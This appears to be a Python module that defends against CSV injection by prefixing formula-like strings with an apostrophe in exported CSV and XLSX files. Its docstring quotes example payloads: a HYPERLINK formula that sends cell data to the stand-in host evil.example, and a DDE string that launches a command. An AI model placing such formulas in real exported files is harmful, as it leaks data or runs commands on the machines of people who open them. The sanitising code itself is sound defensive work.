"""Cells of the CSV and XLSX files the product writes: text a spreadsheet would run stays text.

A CRM field, a campaign name or a decision typed as `=HYPERLINK("http://evil.example/?"&A1,"x")`,
`+cmd|' /C calc'!A0` or `@SUM(A1:A9)` becomes a live formula when a spreadsheet opens the file
(CSV injection). Every writer passes its cells through `inert` (one value) or `inert_frame` (a
DataFrame): a string starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
`'` (OWASP's rule), so Excel, LibreOffice and Google Sheets show it as text. Only strings are
touched: numbers, dates and booleans stay what they are (a negative amount stays a number).

Writers through openpyxl also call `strings_as_text(sheet)`, so a string cell is stored as a
string (data type "s"), never as a formula or an error code.

This module sits in `store`, the lowest layer, so that the audit export here, the metric and
meeting writers and the pages' downloads all import the same function. No pandas import: the
DataFrame helper only uses the frame it is given.
"""
from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def inert(value: Any) -> Any:
    """`value` safe for a spreadsheet cell: a string starting with = + - @ tab or CR gets a leading
    `'`; every other value (numbers, dates, None, other strings) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def inert_frame(df):
    """A copy of the pandas DataFrame `df` with `inert` applied to its column names and to every
    cell of its text-holding columns (object, string, category); numeric, datetime and boolean
    columns are left as they are, so numbers stay numbers."""
    out = df.copy()
    for i, dtype in enumerate(out.dtypes):
        if dtype.kind == "O":  # object, pandas' str/string and category columns
            out.isetitem(i, out.iloc[:, i].astype(object).map(inert))
    out.columns = [inert(c) for c in out.columns]
    return out


def strings_as_text(sheet) -> None:
    """Mark every string cell of an openpyxl worksheet as a string (data type "s"): openpyxl
    guesses a formula from a leading "=" and an error from "#N/A"-like text; a value we write is
    neither."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"


__all__ = ["inert", "inert_frame", "strings_as_text", "FORMULA_STARTS"]
